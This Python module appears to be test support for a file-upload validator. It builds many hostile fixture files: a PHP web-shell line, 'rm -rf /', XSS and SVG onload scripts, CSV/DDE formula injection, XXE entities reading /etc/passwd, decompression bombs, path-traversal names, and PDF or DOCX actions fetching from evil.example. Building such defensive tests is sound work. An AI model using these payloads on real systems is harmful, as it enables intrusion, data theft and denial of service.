"""Contents that are no documents, or more than one: each by a name that says what is wrong with it. Made by code, all harmless."""

from __future__ import annotations

import gzip
import io
import struct
import tarfile
import zlib
from collections.abc import Callable, Iterator
from functools import cache

from tests.support.fetching_uploads import fetching
from tests.support.ordinary_documents import (
    DOCX_PARTS,
    ODT_PARTS,
    OFFICE,
    archive,
    chunk,
    content_types,
    docx,
    jpeg,
    object_stream,
    odt,
    pdf,
    png,
    relations,
    segment,
    stream,
    word,
    xlsx,
    xlsx_with,
)

ZEROS = 200 << 20
"""Bytes that a bomb says, or that it is, unpacked."""
PDF_NAMES = (
    b"JavaScript", b"Launch", b"EmbeddedFile", b"EmbeddedFiles", b"Rendition", b"RichMedia", b"XFA", b"SubmitForm", b"ImportData", b"GoToE",
    b"GoToR", b"Movie", b"OnInstantiate",
)  # fmt: skip
NAMES = (
    "../../etc/passwd", "..\\..\\windows\\system32\\x.dll", "/etc/shadow", "C:\\temp\\x.txt", "a\0.exe", "a.txt\0.exe", "x\r\nSet-Cookie: a=b",
    'x"; filename="y.exe', "\u202etxt.exe", "\u2066x\u2069", "\u200b", "", ".", "..", "...", " ", "CON", "nul.txt", "com1.pdf", "x" * 5_000,
    "ü" * 5_000, "\U0001f600" * 900, "a/b/c", "x.pdf.exe", "<script>.txt", "a%0d%0ab", "%2e%2e%2f", "\ud800", "x;y=z", "name.txt ", ".htaccess",
    "x\x7f\x1b[31m", "\ufeffx",
)  # fmt: skip
"""Names under which a document may be sent."""


@cache
def hostile() -> dict[str, bytes]:
    """All of them, by what is wrong."""
    makers = (_other_types, _other_texts, _pdf_names, _pdf_openings, _pdf_forms, _images, _archives, _open_xml, _odf, fetching)  # fmt: skip
    rows = [row for maker in makers for row in maker()]
    contents = dict(rows)
    assert len(contents) == len(rows)
    return contents


def _other_types() -> Iterator[tuple[str, bytes]]:
    beginnings = {
        "exe": b"MZ\x90\0\3\0\0\0", "elf": b"\x7fELF\2\1\1\0", "class": b"\xca\xfe\xba\xbe\0\0\0\x41", "gif": b"GIF89a\1\0\1\0\0\0\0;",
        "gifar": b"GIF89a\1\0\1\0\0\0\0;" + archive({"META-INF/MANIFEST.MF": b"x"}), "bmp": b"BM\x3a\0\0\0\0\0\0\0", "tiff": b"II*\0\x08\0\0\0\0\0",
        "tiff_mm": b"MM\0*\0\0\0\x08\0\0", "webp": b"RIFF\x24\0\0\0WEBPVP8 ", "ico": b"\0\0\1\0\1\0", "rar": b"Rar!\x1a\7\1\0", "7z": b"7z\xbc\xaf\x27\x1c\0\4",
        "bz2": b"BZh91AY&SY\0", "xz": b"\xfd7zXZ\0\0\4", "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "mp4": b"\0\0\0\x18ftypmp42",
        "wasm": b"\0asm\1\0\0\0", "lnk": b"L\0\0\0\1\x14\2\0", "chm": b"ITSF\3\0\0\0", "sqlite": b"SQLite format 3\0", "cab": b"MSCF\0\0\0\0",
        "pyc": b"\xa7\r\r\n\0\0\0\0", "dex": b"dex\n035\0", "nothing": b"", "white": b" \r\n\t", "zeros": bytes(100), "utf16": "\ufefftext".encode("utf-16"),
        "utf16_html": "<html>".encode("utf-16-le"), "control": b"text\x1b[31m", "backspace": b"a\x08b", "late_control": "a\x9bb".encode(), "undefined": b"a\x81b",
        "tar": _tar(), "gzip": gzip.compress(b"x", mtime=0), "iso": bytes(32_769) + b"CD001", "short_png": b"\x89PNG\r\n\x1a\n", "short_jpeg": b"\xff\xd8\xff",
        "short_pdf": b"%PDF-", "short_zip": b"PK\3\4",
    }  # fmt: skip
    yield from ((f"type_{name}", content) for name, content in beginnings.items())
    plain = {
        "zip": {"readme.txt": b"x"},
        "jar": {"META-INF/MANIFEST.MF": b"x", "A.class": b"\xca\xfe\xba\xbe"},
        "apk": {"AndroidManifest.xml": b"\3\0\x08\0"},
    }
    yield from ((f"archive_{name}", archive(parts)) for name, parts in plain.items())
    for name, main, part in (
        ("pptx", "presentationml.presentation", "ppt/presentation.xml"),
        ("dotx", "wordprocessingml.template", "word/document.xml"),
        ("xltx", "spreadsheetml.template", "xl/workbook.xml"),
    ):
        types = content_types(f"{OFFICE}{main}.main+xml", f"/{part}")
        yield (
            f"archive_{name}",
            archive({"[Content_Types].xml": types, "_rels/.rels": relations(), part: word()}),
        )
    for name, media_type in (
        ("ods", "spreadsheet"),
        ("odg", "graphics"),
        ("ott", "text-template"),
        ("odm", "text-master"),
    ):
        yield (
            f"archive_{name}",
            odt({"mimetype": f"application/vnd.oasis.opendocument.{media_type}".encode()}),
        )
    yield "archive_epub", odt({"mimetype": b"application/epub+zip"})


def _tar() -> bytes:
    written = io.BytesIO()
    with tarfile.open(fileobj=written, mode="w") as writer:
        writer.addfile(tarfile.TarInfo("readme.txt"))
    return written.getvalue()


def _other_texts() -> Iterator[tuple[str, bytes]]:
    script = b"<script>alert(1)</script>"
    texts = {
        "html": b"<html><body>x</body></html>", "doctype": b"  \n<!DOCTYPE html><p>x", "html_after_words": b"Dear all,\n<html><p>x", "script": b"hello " + script,
        "bom_html": b"\xef\xbb\xbf<p>x", "comment": b"<!-- x --><p>", "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "svg_script": b"<svg>" + script + b"</svg>", "svg_later": b"x\n<svg onload=alert(1)>", "xml": b'<?xml version="1.0"?><a/>', "xml_later": b"x <?xml version='1.0'?>",
        "entities": b'x <!ENTITY a "b">', "xslt": b"<xsl:stylesheet/>", "php": b"<?php system($_GET[0]);", "php_later": b"x <?php system($_GET[0]); ?>", "asp": b"<% eval %>",
        "shell": b"#!/bin/sh\nrm -rf /\n", "bom_shell": b"\xef\xbb\xbf#!/bin/sh\n", "rtf": b"{\\rtf1\\ansi x}", "postscript": b"%!PS-Adobe-3.0\n", "mhtml": b"MIME-Version: 1.0\r\n\r\n",
        "url": b"[InternetShortcut]\r\nURL=file://x\r\n", "desktop": b"[Desktop Entry]\nExec=x\n", "reg": b"Windows Registry Editor Version 5.00\r\n", "hta": b"<hta:application/>x",
        "pdf_within": b"hello\n%PDF-1.7\n", "iframe": b"x <iframe src=//x>", "object": b"x <OBJECT data=x>", "meta": b"x <meta http-equiv=refresh>", "link": b"x <link rel=import href=x>",
        "base": b"x <base href=//x>", "embed": b"x <embed src=x>", "math": b"x <math href=x>", "zip_behind": b"hello\n" + archive({"a.txt": b"x"}), "html_windows": b"\xe4 <html><p>",
        "formula": b"a;b\n=1+1;2\n", "exchange": b"a,b\n=cmd|'/C calc'!A0,2\n", "exchange_plus": b"a;b\n+cmd|'/C calc'!A0;2\n", "exchange_at": b"a\tb\n@SUM(1)\t2\n",
        "exchange_quoted": b'a,b\n"=HYPERLINK(""http://x"")",2\n', "formula_blank": b"a;b\n  =1;2\n", "formula_later": b"a;b\n1;-cmd|'x'!A\n", "formula_windows": b"\xe4;b\n1;=2\n",
    }  # fmt: skip
    yield from ((f"text_{name}", content) for name, content in texts.items())


def _pdf_names() -> Iterator[tuple[str, bytes]]:
    for name in PDF_NAMES:
        title = name.decode()
        spelled = b"#%02x" % name[0] + name[1:-1] + b"#%02X" % name[-1]
        whole = b"".join(b"#%02x" % letter for letter in name)
        value = b" << /S /" + name + b" /F (x) >>"
        yield (
            f"pdf_{title}",
            pdf(b"<< /Type /Action /S /" + name + b" /F (x) >>", catalog=b"/OpenAction 5 0 R"),
        )
        yield f"pdf_spelled_{title}", pdf(b"<< /S/" + spelled + b"/F (x) >>")
        yield f"pdf_wholly_spelled_{title}", pdf(catalog=b"/X << /S /" + whole + b">>")
        yield f"pdf_packed_{title}", pdf(object_stream(value))
        yield (
            f"pdf_packed_behind_{title}",
            pdf(object_stream(b"(" + bytes(70_000) + b")" + value, beginning=b"% comment\n \0")),
        )


def _pdf_openings() -> Iterator[tuple[str, bytes]]:
    """What begins by itself when the document is opened, or a page of it."""
    address = b"<< /S /URI /URI (https://evil.example/opened) >>"
    printing = b"<< /S /Named /N /Print >>"
    chained = b"<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>"
    for name, action in (("address", address), ("printing", printing), ("chained", chained)):
        yield f"pdf_opening_{name}", pdf(catalog=b"/OpenAction " + action)
        yield f"pdf_opening_close_{name}", pdf(catalog=b"/OpenAction" + action)
        yield f"pdf_opening_spelled_{name}", pdf(catalog=b"/Open#41ction % x\n" + action)
        yield f"pdf_opening_elsewhere_{name}", pdf(action, catalog=b"/OpenAction 5 0 R")
        yield (
            f"pdf_opening_packed_{name}",
            pdf(object_stream(b"<< /Type /Catalog /OpenAction " + action + b">>")),
        )
        yield f"pdf_page_{name}", pdf(catalog=b"/AA << /WP " + action + b" >>")
        yield f"pdf_page_elsewhere_{name}", pdf(b"<< /O " + action + b" >>", catalog=b"/A#41 5 0 R")
        yield f"pdf_page_packed_{name}", pdf(object_stream(b"<< /AA << /O " + action + b" >> >>"))
    yield "pdf_opening_nowhere", pdf(catalog=b"/OpenAction 99 0 R")
    yield (
        "pdf_opening_words",
        pdf(catalog=b"/OpenAction << /S /GoTo /D (a) /S /URI /URI (https://evil.example) >>"),
    )
    twice = pdf(
        b"<< /S /GoTo /D [3 0 R /Fit] >>",
        b"<< /X 1 >> endobj\n5 0 obj " + address,
        catalog=b"/OpenAction 5 0 R",
    )
    yield "pdf_opening_twice", twice


def _pdf_forms() -> Iterator[tuple[str, bytes]]:
    whole = pdf()
    script = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    packed = zlib.compress(b"90 0 " + script)
    bomb = zlib.compress(b"1 0 " + bytes(3 << 20))
    yield from (
        ("pdf_late", b"x" + whole), ("pdf_late_line", b"\n" + whole), ("pdf_html", pdf(before=b"%<html><script>alert(1)</script>\n")),
        ("pdf_iframe", pdf(after=b"\n%<iframe src=x>\n")), ("pdf_goes_on", pdf(after=b"\nmore")), ("pdf_zip", pdf(after=archive({"a": b"x"}))),
        ("pdf_zip_in_comment", whole + b"%" + _commented(archive({"a": b"x"}), b"\n%%EOF")), ("pdf_rar", pdf(before=b"%Rar!\x1a\7\1\0\n")),
        ("pdf_7z", pdf(before=b"%7z\xbc\xaf\x27\x1c\n")), ("pdf_encrypted", pdf(trailer=b"/Encrypt 9 0 R")), ("pdf_encrypted_spelled", pdf(trailer=b"/Encryp#74 9 0 R")),
        ("pdf_no_root", whole.replace(b"/Root", b"/Boot")), ("pdf_version", b"%PDF-9.9" + whole[8:]), ("pdf_no_table", whole.replace(b"startxref", b"endxref")),
        ("pdf_hex_packed", pdf(stream(packed.hex().encode() + b">", b"/Type /ObjStm /N 1 /First 5 /Filter [/ASCIIHexDecode /FlateDecode]"))),
        ("pdf_unfiltered_deflate", pdf(stream(packed[2:-4], b"/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode"))),
        ("pdf_predicted", pdf(stream(zlib.compress(b"\2" + b"90 0 " + script), b"/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode"))),
        ("pdf_plain_objects", pdf(stream(b"90 0 " + script, b"/Type /ObjStm /N 1 /First 5"))), ("pdf_type_spelled", pdf(stream(packed, b"/Type /Obj#53tm /N 1 /First 5"))),
        ("pdf_no_type", pdf(stream(packed, b"/N 1 /First 5 /Filter /FlateDecode"))), ("pdf_half_packed", pdf(stream(packed[:-8], b"/N 1 /First 5 /Filter /FlateDecode"))),
        ("pdf_small_window", pdf(stream(_packed_small(b"90 0 " + script), b"/N 1 /First 5 /Filter /FlateDecode"))),
        ("pdf_bomb", pdf(*(stream(bomb, b"/Filter /FlateDecode") for _ in range(50)))), ("pdf_in_stream", pdf(stream(script, b"/Subtype /Image"))),
        ("pdf_object_in_comment", pdf(before=b"%" + script + b"\n")), ("pdf_tar", _at(257, b"ustar")), ("pdf_iso", _at(32_769, b"CD001")),
    )  # fmt: skip
    yield from ((f"pdf_cut_{part}", whole[: len(whole) * part // 12]) for part in range(1, 12))


def _packed_small(data: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, 9)
    return packer.compress(data) + packer.flush()


def _at(place: int, mark: bytes) -> bytes:
    begins = len(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    return pdf(before=b"%" + b"x" * (place - begins - 1) + mark + b"\n")


def _commented(content: bytes, comment: bytes) -> bytes:
    """An archive with a comment."""
    return content[:-2] + struct.pack("<H", len(comment)) + comment


def _images() -> Iterator[tuple[str, bytes]]:
    picture, photo, jar = png(), jpeg(), archive({"META-INF/MANIFEST.MF": b"x"})
    bomb = zlib.compress(bytes(5 << 20))
    script = b"<script>alert(1)</script>"
    yield from (
        ("png_huge", png(width=100_000, height=100_000, data=bomb)), ("png_bomb", png(data=bomb)), ("png_wide", png(width=2**31, height=1, data=bomb)),
        ("png_no_width", png(width=0, data=bomb)), ("png_short_data", png(data=zlib.compress(b"\0"))), ("png_no_data", png(data=b"")), ("png_half_data", png(data=bomb[:30])),
        ("png_data_behind", png(data=zlib.compress(b"".join(b"\0" + bytes(12) for _ in range(3))) + b"hidden")), ("png_two_headers", png(picture[8:33])),
        ("png_no_header", picture[:8] + picture[33:]), ("png_no_end", picture[:-12]), ("png_goes_on", picture + b"x"), ("png_zip", picture + jar), ("png_html", picture + script),
        ("png_script", png(chunk(b"tEXt", b"Comment\0" + script))), ("png_php", png(chunk(b"tEXt", b"Comment\0<?php x ?>"))), ("png_text_bomb", png(chunk(b"zTXt", b"Comment\0\0" + bomb))),
        ("png_many_texts", png(*([chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(1 << 20)))] * 6))), ("png_profile_bomb", png(chunk(b"iCCP", b"p\0\0" + bomb))), ("png_words_bomb", png(chunk(b"iTXt", b"k\0\1\0de\0K\0" + bomb))),
        ("png_checksum", picture[:20] + b"\1" + picture[21:]), ("png_depth", png().replace(b"\x08\x02\0\0\0", b"\x07\x02\0\0\0")), ("png_rar", png(chunk(b"raRr", b"Rar!\x1a\7\1\0"))),
        ("png_pdf", png(chunk(b"teXt", b"%PDF-1.7 "))), ("png_zip_within", png(chunk(b"ziPp", jar))), ("png_end_holds", picture[:-12] + chunk(b"IEND", b"x")),
        ("jpeg_huge", jpeg(width=65_535, height=65_535)), ("jpeg_no_height", jpeg(height=0)), ("jpeg_goes_on", photo + b"x"), ("jpeg_zip", photo + jar), ("jpeg_html", photo + script),
        ("jpeg_script", jpeg(segment(0xFE, script))), ("jpeg_php", jpeg(segment(0xFE, b"<?php x ?>"))), ("jpeg_scans", jpeg(scans=500)), ("jpeg_no_scan", jpeg(scans=0)),
        ("jpeg_two_sizes", jpeg(segment(0xC0, b"\x08\0\x08\0\x08\1\1\x11\0"))), ("jpeg_pdf", jpeg(segment(0xFE, b"%PDF-1.7 "))), ("jpeg_zip_within", jpeg(segment(0xFE, jar))),
        ("jpeg_two", photo + photo), ("jpeg_rar", jpeg(segment(0xFE, b"Rar!\x1a\7\1\0"))), ("jpeg_short_segment", b"\xff\xd8\xff\xe0\0\1" + photo[2:]),
    )  # fmt: skip
    yield from ((f"png_cut_{part}", picture[: len(picture) * part // 10]) for part in range(2, 10))
    yield from ((f"jpeg_cut_{part}", photo[: len(photo) * part // 10]) for part in range(1, 10))


def _archives() -> Iterator[tuple[str, bytes]]:
    letter = docx()
    first = 30 + len("[Content_Types].xml")
    names = ("../x.xml", "/etc/x.xml", "C:/x.xml", "word\\x.xml", "word/../../x.xml", "word/./x.xml", "word/x\r\n.xml", "word/\u202elmx.xml", "word//x.xml", "x\0.xml")  # fmt: skip
    for number, name in enumerate(names):
        yield (
            f"zip_name_{number}",
            archive({**DOCX_PARTS, "word/QQ.xml": word()}).replace(
                b"word/QQ.xml", _padded(name, len("word/QQ.xml"))
            ),
        )
    twice = docx({"word/documenx.xml": word("<x/>")})
    yield from (
        ("zip_twice", twice.replace(b"word/documenx.xml", b"word/document.xml")), ("zip_twice_in_case", docx({"word/Document.xml": word()})),
        ("zip_other_name_within", letter.replace(b"word/document.xml", b"word/documenX.xml", 1)), ("zip_comment", _commented(letter, b"hidden")), ("zip_before", b"PK\3\4" + letter),
        ("zip_behind", letter + b"x"), ("zip_two", letter + letter), ("zip_encrypted", _flagged(letter, 1)), ("zip_method", _in_directory(letter, 10, struct.pack("<H", 12))),
        ("zip_checksum", _in_directory(letter, 16, b"\0\0\0\0")), ("zip_size", _in_directory(letter, 24, b"\1\0\0\0")), ("zip_large_size", _in_directory(letter, 24, b"\xff\xff\xff\xff")),
        ("zip_link", _in_directory(letter, 38, struct.pack("<I", 0o120777 << 16))), ("zip_offset", _in_directory(letter, 42, struct.pack("<I", 4))), ("zip_gap", _with_gap(letter)),
        ("zip_disk", _in_end(letter, 4, b"\1\0")), ("zip_count", _in_end(letter, 8, b"\1\0\1\0")), ("zip_no_entries", letter[:first] + b"PK\5\6" + bytes(18)),
        ("zip_many", archive({**DOCX_PARTS, **{f"word/x{number}.xml": b"" for number in range(2_100)}})), ("zip_overlapping", _overlapping()),
        ("zip_bomb_said", _saying(ZEROS)), ("zip_bomb_unsaid", _unsaid()), ("zip_bomb_parts", _saying_often()), ("zip_nested", docx({"word/media/image2.png": letter})),
        ("zip_nested_gzip", docx({"word/media/image2.png": gzip.compress(b"x")})), ("zip_nested_ole", docx({"word/media/image2.emf": b"\xd0\xcf\x11\xe0" + bytes(99)})),
        ("zip_program", docx({"word/media/image2.png": b"MZ\x90\0"})), ("zip_pdf", docx({"word/media/image2.png": pdf()})), ("zip_elf", docx({"word/fonts/x.odttf": b"\x7fELF"})),
        ("zip_script", docx({"word/x.js": b"alert(1)"})), ("zip_page", docx({"word/x.html": b"<html>"})), ("zip_elsewhere", docx({"x/y.xml": b"<a/>"})),
        ("zip_at_root", docx({"evil.xml": b"<a/>"})),
        ("zip_no_extension", docx({"word/program": b"x"})), ("zip_pdf_first", archive({"word/media/a.png": b"%PDF-1.7", **DOCX_PARTS}, stored=["word/media/a.png"])),
    )  # fmt: skip
    yield from ((f"zip_cut_{part}", letter[: len(letter) * part // 12]) for part in range(1, 12))


def _padded(name: str, length: int) -> bytes:
    data = name.encode()
    if len(data) > length:
        return data[:length]
    return data[:-4] + b"x" * (length - len(data)) + data[-4:]


def _directory(content: bytes) -> int:
    return content.index(b"PK\1\2")


def _in_directory(content: bytes, place: int, data: bytes) -> bytes:
    begins = _directory(content) + place
    return content[:begins] + data + content[begins + len(data) :]


def _in_end(content: bytes, place: int, data: bytes) -> bytes:
    begins = len(content) - 22 + place
    return content[:begins] + data + content[begins + len(data) :]


def _flagged(content: bytes, flag: int) -> bytes:
    changed = _in_directory(content, 8, struct.pack("<H", flag))
    return changed[:6] + struct.pack("<H", flag) + changed[8:]


def _with_gap(content: bytes) -> bytes:
    """Something stands between the parts and the directory."""
    begins = _directory(content)
    changed = content[:begins] + b"hidden" + content[begins:]
    return _in_end(changed, 16, struct.pack("<I", begins + 6))


def _overlapping() -> bytes:
    """Two entries of the directory that stand for one part."""
    content = docx()
    begins, end = _directory(content), len(content) - 22
    length = 46 + len("[Content_Types].xml")
    again = content[begins : begins + length].replace(b"[Content_Types].xml", b"[Content_Types].xmm")
    count, size = struct.unpack_from("<HI", content, end + 10)
    closing = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, count + 1, count + 1, size + length, begins, 0)
    return content[:end] + again + closing


def _saying(size: int) -> bytes:
    """A part that is as large as it says."""
    packer = zlib.compressobj(1, zlib.DEFLATED, -15)
    piece = bytes(1 << 20)
    data = b"".join(packer.compress(piece) for _ in range(8)) + packer.flush()
    content = docx({"word/media/image9.bmp": b"QQ"})
    return _exchanged(content, b"word/media/image9.bmp", data, size)


def _unsaid() -> bytes:
    """A part that holds more than it says."""
    return _exchanged(
        docx({"word/media/image9.bmp": b"QQ"}),
        b"word/media/image9.bmp",
        zlib.compress(bytes(8 << 20))[2:-4],
        2,
    )


def _saying_often() -> bytes:
    parts = {f"word/media/image{number}.bmp": bytes(1 << 20) for number in range(140)}
    return docx(parts)


def _exchanged(content: bytes, name: bytes, data: bytes, size: int) -> bytes:
    """The last part of an archive with other data, and what it says of its size."""
    begins = content.index(name) - 30
    directory = _directory(content)
    header = bytearray(content[begins : begins + 30 + len(name)])
    struct.pack_into("<II", header, 18, len(data), size)
    entries = bytearray(content[directory:-22])
    struct.pack_into("<II", entries, entries.rindex(name) - 46 + 20, len(data), size)
    whole = content[:begins] + bytes(header) + data
    return whole + bytes(entries) + content[-22:-6] + struct.pack("<I", len(whole)) + b"\0\0"


def _open_xml() -> Iterator[tuple[str, bytes]]:
    rels = "word/_rels/document.xml.rels"
    outside: tuple[tuple[str, str, str], ...] = (
        ("attachedTemplate", "https://evil.example/t.dotm", "External"), ("attachedTemplate", "\\\\evil.example\\t.dotm", "External"),
        ("attachedTemplate", "file://evil.example/t.dotm", "External"), ("attachedTemplate", "file:///\\\\evil.example\\t.dotm", "External"),
        ("oleObject", "mhtml:https://evil.example!x", "External"), ("image", "https://evil.example/x.png", "External"), ("image", "//evil.example/x.png", ""),
        ("hyperlink", "javascript:alert(1)", "External"), ("hyperlink", "file://evil.example/x.exe", "External"), ("hyperlink", "ms-msdt:/id", "External"),
        ("hyperlink", "\\\\evil.example\\x", "External"), ("frame", "https://evil.example/", "External"), ("subDocument", "x.docx", ""), ("aFChunk", "x.html", ""),
        ("package", "embeddings/x.xlsx", ""), ("control", "activeX/activeX1.xml", ""), ("vbaProject", "vbaProject.bin", ""), ("externalLink", "externalLinks/e1.xml", ""),
        ("externalLinkPath", "file:///C:\\x.xlsx", "External"), ("xlMacrosheet", "macrosheets/s1.xml", ""),
        ("attachedTemplate", "file:///C:\\t.dotm", ""), ("attachedTemplate", "file:///tmp/t.dotm", ""),
    )  # fmt: skip
    for number, row in enumerate(outside):
        yield f"docx_relation_{number}_{row[0]}", docx({rels: relations(row)})
    main = f"{OFFICE}wordprocessingml.document.main+xml"
    types = (
        "application/vnd.ms-word.document.macroEnabled.main+xml", "application/vnd.ms-office.vbaProject", f"{OFFICE}oleObject", "application/vnd.ms-office.activeX+xml",
        f"{OFFICE}package", f"{OFFICE}spreadsheetml.externalLink+xml", "text/html", "application/rtf", f"{OFFICE}spreadsheetml.connections+xml", main,
        "application/vnd.ms-excel.macrosheet+xml",
    )  # fmt: skip
    for number, kind in enumerate(types):
        yield (
            f"docx_type_{number}",
            docx({"[Content_Types].xml": content_types(main, "/word/document.xml", kind)}),
        )
    text = "word/document.xml"
    split = "<w:r><w:instrText> D</w:instrText></w:r><w:r><w:t>x</w:t><w:instrText>DE c:\\\\x </w:instrText></w:r>"
    wide = '<?xml version="1.0" encoding="utf-16"?><w:d xmlns:w="urn:w"><w:instrText>DDEAUTO c:\\\\x</w:instrText></w:d>'
    doctype = b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
    laughs = b'<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;">]><a>&c;</a>'
    yield from (
        ("docm", docx({"[Content_Types].xml": content_types(types[0], "/word/document.xml"), "word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
        ("docx_macros", docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})), ("docx_enclosed", docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"})),
        ("docx_enclosed_sheet", docx({"word/embeddings/sheet.xml": b"<a/>"})), ("docx_activex", docx({"word/activeX/activeX1.xml": b"<a/>"})),
        ("docx_exchange", docx({text: word("<w:r><w:instrText> DDEAUTO c:\\\\x </w:instrText></w:r>")})), ("docx_exchange_split", docx({text: word(split)})),
        ("docx_exchange_simple", docx({text: word('<w:fldSimple w:instr="DDE c:\\\\x"/>')})), ("docx_exchange_letters", docx({text: word("<w:instrText>&#68;D&#x45; x</w:instrText>")})),
        ("docx_exchange_header", docx({"word/header1.xml": word("<w:instrText>dde x</w:instrText>")})), ("docx_exchange_wide", docx({text: wide.encode("utf-16")})),
        ("docx_object", docx({text: word("<w:object/>")})), ("docx_chunk", docx({text: word("<w:altChunk/>")})), ("docx_doctype", docx({text: doctype})),
        ("docx_doctype_types", docx({"[Content_Types].xml": doctype})), ("docx_doctype_properties", docx({"docProps/core.xml": laughs})), ("docx_no_xml", docx({text: b"text"})),
        ("docx_no_encoding", docx({text: b"<?xml version='1.0' encoding='UUx-8'?><a/>"})), ("docx_wide_encoding", docx({text: b"<?xml version='1.0' encoding='shift_jis'?><a/>"})),
        ("docx_codec", docx({text: b"<?xml version='1.0' encoding='rot13'?><a/>"})), ("docx_cut_xml", docx({text: word()[:-9]})), ("docx_deep", docx({text: b"<a>" * 5_000 + b"</a>" * 5_000})), ("docx_long_mark", docx({text: b"<a b='" + b"x" * (3 << 20) + b"'/>"})),
        ("docx_svg_script", docx({"word/media/i.svg": b"<svg><script/></svg>"})), ("docx_svg_on", docx({"word/media/i.svg": b"<svg onload='x'/>"})),
        ("docx_svg_link", docx({"word/media/i.svg": b"<svg><a href='javascript:x'/></svg>"})), ("docx_vml_program", docx({"word/x.bin": b"x"})),
        ("docx_no_text", archive({name: part for name, part in DOCX_PARTS.items() if name != text})), ("docx_no_relations", archive({name: part for name, part in DOCX_PARTS.items() if name != "_rels/.rels"})),
        ("docx_no_types", archive({name: part for name, part in DOCX_PARTS.items() if name != "[Content_Types].xml"})), ("xlsm", _xlsm()),
        ("xlsx_macros", xlsx_with({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})), ("xlsx_exchange", xlsx_with({"xl/externalLinks/e1.xml": b"<e><ddeLink/></e>"})),
        ("xlsx_outside", xlsx_with({"xl/sheet9.xml": b"<w><externalReference/></w>"})), ("xlsx_connections", xlsx_with({"xl/connections.xml": b"<c><connection/></c>"})),
        ("xlsx_old_macro", xlsx_with({"xl/sheet9.xml": b'<w><definedName xlm="1"/></w>'})), ("xlsx_control", xlsx_with({"xl/sheet9.xml": b"<w><control/></w>"})),
        ("xlsx_object", xlsx_with({"xl/sheet9.xml": b"<w><oleObject/></w>"})), ("xlsx_printer", xlsx_with({"xl/printerSettings/other.bin": b"x"})), ("xlsb", xlsx_with({"xl/workbook.bin": b"x"})),
        ("xlsx_cut", xlsx()[: len(xlsx()) // 2]),
    )  # fmt: skip


def _xlsm() -> bytes:
    types = content_types("application/vnd.ms-excel.sheet.macroEnabled.main+xml", "/xl/workbook.xml")
    return xlsx_with({"[Content_Types].xml": types, "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})


def _odf() -> Iterator[tuple[str, bytes]]:
    def content(body: str) -> bytes:
        return odt(
            {
                "content.xml": f'<o:c xmlns:o="urn:o" xmlns:x="http://www.w3.org/1999/xlink">{body}</o:c>'.encode()
            }
        )

    elements = ("event-listener", "script", "dde-source", "dde-connection", "dde-connection-decl", "dde-link", "object-ole", "plugin", "applet", "floating-frame")  # fmt: skip
    yield from ((f"odt_{name}", content(f"<o:{name}/>")) for name in elements)
    targets = ("vnd.sun.star.script:x", "macro:///x", "javascript:x", "file://evil.example/x", "\\\\evil.example\\x", "//evil.example/x", "data:text/html,x", " javascript:x")  # fmt: skip
    yield from (
        (f"odt_link_{number}", content(f'<o:a x:href="{target}"/>')) for number, target in enumerate(targets)
    )
    without = {name: part for name, part in ODT_PARTS.items() if name != "mimetype"}
    late = {**without, "mimetype": ODT_PARTS["mimetype"]}
    encrypted = b'<m:manifest xmlns:m="urn:m"><m:encryption-data/></m:manifest>'
    changes: dict[str, Callable[[], bytes]] = {
        "image": lambda: content('<o:image x:href="https://evil.example/x.png"/>'), "image_above": lambda: content('<o:image x:href="../../x.png"/>'),
        "section": lambda: content('<o:section-source x:href="file:///etc/passwd"/>'), "template": lambda: content('<o:template x:href="https://evil.example/t.ott"/>'),
        "macros": lambda: odt({"Basic/Standard/Module1.xml": b"<a/>"}), "scripts": lambda: odt({"Scripts/python/x.py": b"x"}), "dialogs": lambda: odt({"Dialogs/x.xml": b"<a/>"}),
        "encrypted": lambda: odt({"META-INF/manifest.xml": encrypted}), "late_type": lambda: archive(late, stored=["mimetype"]), "packed_type": lambda: archive(ODT_PARTS),
        "no_type": lambda: archive(without), "object": lambda: odt({"Object 1": b"\xd0\xcf\x11\xe0"}), "enclosed": lambda: odt({"ObjectReplacements/x.png": b"\xd0\xcf\x11\xe0"}),
        "doctype": lambda: odt({"content.xml": b'<!DOCTYPE a SYSTEM "x"><a/>'}), "database": lambda: odt({"database/x": b"x"}), "jar": lambda: odt({"Pictures/x.jar": b"PK"}),
    }  # fmt: skip
    yield from ((f"odt_{name}", make()) for name, make in changes.items())
